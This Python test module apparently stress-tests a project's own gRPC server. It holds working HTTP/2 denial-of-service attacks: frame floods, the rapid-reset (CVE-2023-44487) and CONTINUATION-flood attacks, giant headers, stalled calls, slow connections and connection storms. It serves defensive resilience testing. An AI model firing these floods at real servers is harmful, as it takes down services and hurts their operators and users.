"""Attacks at the ordinary port, which gRPC's library serves: floods of frames, stalled calls, strangers."""

import itertools
import random
import struct
from collections.abc import Callable, Iterator
from functools import partial

from gemps.v1 import history_pb2, parameters_pb2, session_pb2, status_pb2

from tests.hostile import http2_frames as http2
from tests.hostile.attacks import BLOCK_BYTES, Attacks, Scene, flood, hold, storm, to_port
from tests.hostile.tls_frames import CLIENT_HELLO

# Peaks of memory are gRPC's own: what it has read and not parsed, and calls that are over and not forgotten.
ATTACKS = Attacks("gRPC port")

MIB = 1024 * 1024
# gRPC's limits of the server: 2 MiB + 64 KiB a message, 4096 calls a connection.
MESSAGE_BYTES = 2 * MIB + 64 * 1024
CALLS = 4000

PORT = to_port(lambda target: target.port)
# What is not read stays with the server, but for this.
NARROW_PORT = to_port(lambda target: target.port, receive_buffer=4096)


def authority(scene: Scene) -> str:
    return scene.target.address


# -- floods of frames --------------------------------------------------------------------------------------------------


def repeated(one: bytes) -> Callable[[], Iterator[bytes]]:
    """One connection's bytes: the opening, and then the same frame for ever."""
    block = one * max(1, BLOCK_BYTES // len(one))
    return lambda: itertools.chain([http2.opening()], itertools.repeat(block))


# Frames that ask for an answer, that change something, that say nothing, and that nobody knows.
FRAMES = {
    "PING": http2.frame(http2.PING, payload=b"12345678"),
    "SETTINGS": http2.settings({http2.INITIAL_WINDOW_SIZE: 65_535}),
    "WINDOW_UPDATE": http2.frame(http2.WINDOW_UPDATE, payload=struct.pack(">I", 1)),
    "PRIORITY": http2.frame(http2.PRIORITY, stream=1, payload=struct.pack(">IB", 0, 1)),
    "unknown frames": http2.frame(0x7F, payload=b"x" * 32),
}
for _name, _frame in FRAMES.items():
    ATTACKS.add(f"flood of {_name}", quick=False)(
        partial(lambda scene, one: (scene.begin(), flood(scene, PORT, repeated(one))), one=_frame)
    )
for _name in ("PING", "SETTINGS"):
    ATTACKS.add(f"flood of {_name}, answers not read")(
        partial(
            lambda scene, one: (scene.begin(), flood(scene, NARROW_PORT, repeated(one), reads=False, connections=4)),
            one=FRAMES[_name],
        )
    )


@ATTACKS.add("rapid reset of calls", least_ratio=0.2)
def rapid_reset(scene: Scene) -> None:
    """CVE-2023-44487: calls that are reset as soon as they are made."""
    block = http2.call_fields(http2.HEALTH, authority(scene))
    reset = struct.pack(">I", 8)

    def blocks() -> Iterator[bytes]:
        yield http2.opening()
        for first in range(1, 1 << 30, 400):
            yield b"".join(
                http2.call(stream, block) + http2.frame(http2.RST_STREAM, 0, stream, reset)
                for stream in range(first, first + 400, 2)
            )

    scene.begin()
    flood(scene, PORT, blocks)


@ATTACKS.add("flood of CONTINUATION")
def continuation_flood(scene: Scene) -> None:
    """CVE-2024-27316 and its like: headers without an end."""
    headers = http2.call(1, http2.call_fields(http2.HEALTH, authority(scene)), flags=0)
    more = http2.frame(http2.CONTINUATION, 0, 1, http2.fields({f"x-{number}": "y" * 20 for number in range(400)}))
    scene.begin()
    flood(scene, PORT, lambda: itertools.chain([http2.opening() + headers], itertools.repeat(more * 4)))


@ATTACKS.add("flood of empty CONTINUATION", quick=False)
def empty_continuation_flood(scene: Scene) -> None:
    headers = http2.call(1, http2.call_fields(http2.HEALTH, authority(scene)), flags=0)
    block = http2.frame(http2.CONTINUATION, 0, 1) * 7000
    scene.begin()
    flood(scene, PORT, lambda: itertools.chain([http2.opening() + headers], itertools.repeat(block)))


@ATTACKS.add("flood of empty DATA in a call", quick=False)
def empty_data_flood(scene: Scene) -> None:
    call = http2.call(1, http2.call_fields(f"{http2.SERVICE}Commit", authority(scene)))
    block = http2.frame(http2.DATA, 0, 1) * 7000
    scene.begin()
    flood(scene, PORT, lambda: itertools.chain([http2.opening() + call], itertools.repeat(block)))


@ATTACKS.add("giant headers")
def giant_headers(scene: Scene) -> None:
    """Headers of 1 MiB, in a call each; the limit is some KiB."""
    large = http2.call_fields(http2.HEALTH, authority(scene)) + http2.fields({"x-large": "y" * MIB})
    cuts = [large[start : start + 16_384] for start in range(0, len(large), 16_384)]

    def blocks() -> Iterator[bytes]:
        yield http2.opening()
        for stream in range(1, 1 << 30, 2):
            yield http2.call(stream, cuts[0], flags=0)
            yield from (http2.frame(http2.CONTINUATION, 0, stream, cut) for cut in cuts[1:-1])
            yield http2.frame(http2.CONTINUATION, http2.END_HEADERS, stream, cuts[-1])

    scene.begin()
    flood(scene, PORT, blocks)


# -- floods of calls ---------------------------------------------------------------------------------------------------


def calls(path: str, content: bytes, **others: str) -> Callable[[Scene], Callable[[], Iterator[bytes]]]:
    """One connection's bytes: complete calls of one message, one after the other, as many as the server lets."""

    def of(scene: Scene) -> Callable[[], Iterator[bytes]]:
        block = http2.call_fields(path, authority(scene), **others)

        def blocks() -> Iterator[bytes]:
            yield http2.opening(window=1 << 30)
            for first in range(1, 1 << 30, 100):
                yield b"".join(
                    http2.call(stream, block) + http2.message(stream, content, flags=http2.END_STREAM)
                    for stream in range(first, first + 100, 2)
                )

        return blocks

    return of


_GARBAGE = random.Random(1).randbytes(200)
# Here one stranger's processor time alone decides: each of these is a call that Python has to answer.
for _name, _calls in {
    "health checks": calls(http2.HEALTH, b""),
    "calls of an unknown method": calls("/nobody.Knows/It", b""),
    "Join with garbage": calls(f"{http2.SERVICE}Join", _GARBAGE),
    "Commit with garbage": calls(f"{http2.SERVICE}Commit", _GARBAGE),
    "Heartbeat of unknown sessions": calls(
        f"{http2.SERVICE}Heartbeat", session_pb2.HeartbeatRequest(session_id=b"x" * 16).SerializeToString()
    ),
}.items():
    ATTACKS.add(f"flood of {_name}", least_ratio=0.2, quick=_name == "Commit with garbage")(
        partial(lambda scene, of: (scene.begin(), flood(scene, PORT, of(scene))), of=_calls)
    )


@ATTACKS.add("flood of calls with a wrong token", "tokens", quick=False, least_ratio=0.2)
def wrong_tokens(scene: Scene) -> None:
    request = session_pb2.HeartbeatRequest(session_id=bytes.fromhex(scene.target.session)).SerializeToString()
    blocks = calls(f"{http2.SERVICE}Heartbeat", request, authorization="Bearer wrong-token-of-a-stranger")(scene)
    scene.begin()
    flood(scene, PORT, blocks)


# -- calls that stand still --------------------------------------------------------------------------------------------


def standing(path: str, content: bytes, *, announced: int | None = None, initial_window: int | None = None) -> bytes:
    """CALLS calls of one connection, each with this much of a message, and nothing after it."""
    values = {} if initial_window is None else {http2.INITIAL_WINDOW_SIZE: initial_window}
    block = http2.call_fields(path, "127.0.0.1")
    flags = http2.END_STREAM if announced is None else 0
    return http2.opening(values, window=1 << 30) + b"".join(
        http2.call(stream, block) + http2.message(stream, content, announced=announced, flags=flags)
        for stream in range(1, 2 * CALLS, 2)
    )


def hold_calls(scene: Scene, connections: int, content: bytes) -> None:
    """Send this on some connections, as the server takes it, and then nothing."""
    scene.begin()
    flood(scene, PORT, lambda: iter([content, b""]), connections=connections)


ATTACKS.add("4 x 4000 Commit calls that say nothing", quick=False)(
    lambda scene: hold_calls(
        scene,
        4,
        http2.opening()
        + b"".join(
            http2.call(stream, http2.call_fields(f"{http2.SERVICE}Commit", authority(scene)))
            for stream in range(1, 2 * CALLS, 2)
        ),
    )
)
for _method in ("Commit", "Join"):
    ATTACKS.add(f"4 x 4000 {_method} calls, 2 MiB announced and not sent", quick=_method == "Commit")(
        partial(
            lambda scene, method: hold_calls(
                scene, 4, standing(f"{http2.SERVICE}{method}", b"\n", announced=MESSAGE_BYTES)
            ),
            method=_method,
        )
    )


@ATTACKS.add("200 Commit calls, all but one byte of 2 MiB sent")
def unfinished_messages(scene: Scene) -> None:
    content = bytes(MESSAGE_BYTES - 1)
    block = http2.call_fields(f"{http2.SERVICE}Commit", authority(scene))

    def blocks() -> Iterator[bytes]:
        yield http2.opening()
        for stream in range(1, 40, 2):
            yield http2.call(stream, block)
            yield http2.message(stream, content, announced=MESSAGE_BYTES)
        yield b""

    scene.begin()
    flood(scene, PORT, blocks, connections=10)


# Readers that open no window: the server has an answer, and cannot send it.
for _service, _method, _request in (
    (http2.SERVICE, "Pull", parameters_pb2.PullRequest()),
    (http2.OBSERVERS, "WatchStatus", status_pb2.WatchStatusRequest()),
    (http2.OBSERVERS, "GetHistory", history_pb2.GetHistoryRequest()),
):
    ATTACKS.add(f"4 x 4000 {_method} calls without a session, nothing read", quick=_method == "Pull", least_ratio=0.2)(
        partial(
            lambda scene, method, content: hold_calls(scene, 4, standing(method, content, initial_window=0)),
            method=f"{_service}{_method}",
            content=_request.SerializeToString(),
        )
    )


# -- strangers ---------------------------------------------------------------------------------------------------------


ATTACKS.add("1200 connections that say nothing", quick=False)(
    lambda scene: (scene.begin(), hold(scene, PORT, b"", 1200))
)
ATTACKS.add("300 connections, one byte a second", quick=False)(
    lambda scene: (scene.begin(), hold(scene, PORT, b"", 300, drip=http2.opening()))
)
ATTACKS.add("garbage", quick=False, least_ratio=0.2)(
    lambda scene: (scene.begin(), flood(scene, PORT, lambda: itertools.repeat(random.Random(2).randbytes(1 << 16))))
)
ATTACKS.add("TLS to a port without it", quick=False, least_ratio=0.2)(
    lambda scene: (scene.begin(), storm(scene, PORT, CLIENT_HELLO))
)
ATTACKS.add("storm of connections", processes=4, seconds=10.0, least_ratio=0.2, quick=False)(
    lambda scene: (scene.begin(), storm(scene, PORT))
)
ATTACKS.add("storm of connections that begin well", processes=4, seconds=10.0, least_ratio=0.2)(
    lambda scene: (scene.begin(), storm(scene, PORT, http2.opening()))
)
ATTACKS.add("1200 handshakes that stop, with TLS", "tls", quick=False)(
    lambda scene: (scene.begin(), hold(scene, PORT, CLIENT_HELLO, 1200))
)
ATTACKS.add("plain bytes to a port with TLS", "tls", quick=False, least_ratio=0.2)(
    lambda scene: (scene.begin(), storm(scene, PORT, http2.opening()))
)
